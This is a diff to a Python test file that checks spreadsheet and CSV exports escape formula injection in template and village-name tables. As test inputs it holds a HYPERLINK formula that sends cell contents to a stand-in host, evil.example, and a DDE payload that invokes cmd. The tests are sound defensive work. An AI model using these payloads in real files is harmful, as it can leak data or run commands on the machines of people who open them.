@@ -160,7 +160,7 @@ def test_templates_write_text_never_formulas(mini_dir: Path):
     assert example.data_type == "s"
     assert example.value == "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Mở\")"
     csv_text = templates.template_csv("models", tables).decode("utf-8-sig")
-    assert "\"'=HYPERLINK(" in csv_text.splitlines()[1]
+    assert "HYPERLINK" not in csv_text  # its second row explains the columns, no stored value
     export = openpyxl.load_workbook(io.BytesIO(templates.table_xlsx("models", tables["models"])))
     cell = export.active["B4"]
     assert (cell.data_type, cell.value[:3]) == ("s", "'=H")
@@ -173,4 +173,4 @@ def test_map_village_table_csv_escapes_names():
 
     frame = pd.DataFrame({"Thôn": ["Nà Lầu", "@SUM(1+1)*cmd|' /C calc'!A0"], "Số": [1, -2]})
     lines = csv_bytes(frame).decode("utf-8-sig").splitlines()
-    assert lines[1:] == ["Nà Lầu,1", "'@SUM(1+1)*cmd|' /C calc'!A0,-2"]
+    assert lines[1:] == ["Nà Lầu;1", "'@SUM(1+1)*cmd|' /C calc'!A0;-2"]
